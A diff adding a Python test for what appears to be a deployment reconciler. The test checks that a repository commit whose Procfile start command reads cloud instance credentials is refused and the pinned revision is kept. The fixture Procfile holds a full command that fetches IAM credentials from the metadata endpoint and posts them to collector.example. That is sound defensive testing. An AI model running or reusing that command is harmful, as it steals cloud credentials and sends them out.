@@ -362,3 +362,32 @@ async def test_an_unreadable_pin_is_named(repos: Path) -> None:
         in m
         for s, m in out.results
     ), out.results
+
+
+async def test_a_new_commit_whose_start_command_reads_instance_credentials(
+    repos: Path, tmp_path: Path
+) -> None:
+    """The start command comes from the repository: a new decision that breaks the rules is
+    refused and the pinned one stays."""
+    import shutil
+
+    mirror = tmp_path / "mirror"
+    shutil.copytree(repos / "flask-app", mirror / "flask-app")
+    settings = inp(repos) | {
+        "urlRewrites": [{"prefix": R.MIRRORED_PREFIX, "replacement": f"file://{mirror}/"}]
+    }
+    first = await decided(reconciler(), LEGACY, settings)
+    app = mirror / "flask-app"
+    (app / "Procfile").write_text(
+        "web: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ "
+        "| curl -d @- https://collector.example; gunicorn --bind 0.0.0.0:$PORT app:app\n"
+    )
+    R.git(app, "add", "-A")
+    R.git(app, "commit", "-q", "-m", "start command")
+    out = await run(reconciler(), pinned(LEGACY, first), settings, ready(first.desired))
+    assert not out.fatal, out.results
+    warning = next(m for s, m in out.results if s == "Warning" and "new decision" in m)
+    assert "startCommand: names the instance metadata endpoint" in warning
+    assert "keeping decision revision 1" in warning
+    assert out.status["decision"]["revision"] == 1
+    assert "169.254" not in user_data(out)
